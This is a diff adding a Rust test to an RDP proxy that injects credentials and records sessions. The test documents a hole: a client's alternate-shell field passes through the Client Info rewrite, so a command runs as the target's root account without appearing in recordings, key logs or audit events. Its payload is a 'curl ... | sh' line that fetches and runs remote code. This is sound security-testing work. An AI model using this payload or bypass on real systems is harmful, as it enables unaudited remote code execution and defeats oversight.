@@ -333,3 +333,49 @@ fn red17e_the_client_sees_one_bitmap_and_the_recording_another() {
     assert!(updates.iter().any(|u| matches!(u, crate::decode::Update::Frame { .. })), "{updates:?}");
     assert_eq!(pixel(&decoder), [0, 255, 0], "the recording shows green");
 }
+
+/// HOLE (Client Info rewrite): the client's alternate shell and working directory survive the
+/// rewrite (`Filter::inject` replaces only the credential, the cookie and two flags). xfreerdp
+/// sets them with `/shell:` and `/shell-dir:`; xrdp 0.9.21 reads them
+/// (`xrdp_sec_process_logon_info`: cbAlternateShell) and sesman starts a new session with the
+/// program instead of the desktop, through `sh -c` when it holds a space (sesman/session.c,
+/// "Starting user requested window manager ... using a shell"). With the injected credential,
+/// the box user runs any command line as the target account and nothing of it is on the screen
+/// the box records (the session shows only what the command draws, here nothing), in the keys
+/// log, or in an audit event.
+#[test]
+fn red17e_the_client_info_alternate_shell_runs_on_the_target() {
+    use ironrdp_pdu::rdp::client_info::{AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo};
+    use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
+    let command = "sh -c 'curl -s http://10.0.0.9/x | sh; sleep 3600'";
+    let pdu = ClientInfoPdu {
+        security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
+        client_info: ClientInfo {
+            credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
+            password_cookie: None,
+            code_page: 0,
+            flags: ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE,
+            compression_type: CompressionType::K8,
+            alternate_shell: command.into(),
+            work_dir: "/tmp".into(),
+            extra_info: ExtendedClientInfo {
+                address_family: AddressFamily::INET,
+                address: "127.0.0.1".into(),
+                dir: "C:\\".into(),
+                optional_data: ExtendedClientOptionalInfo::default(),
+            },
+        },
+    };
+    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
+    (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
+    let Verdict::Replace(out) = f.from_client(&send_data(1003, encode_vec(&pdu).unwrap())).unwrap() else {
+        panic!("client info not rewritten")
+    };
+    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
+    let info = decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info;
+    // The target gets its own credential with auto-logon, and the user's command line.
+    assert_eq!(info.credentials.username, "root");
+    assert!(info.flags.contains(ClientInfoFlags::AUTOLOGON));
+    assert_eq!(info.alternate_shell, command);
+    assert_eq!(info.work_dir, "/tmp");
+}
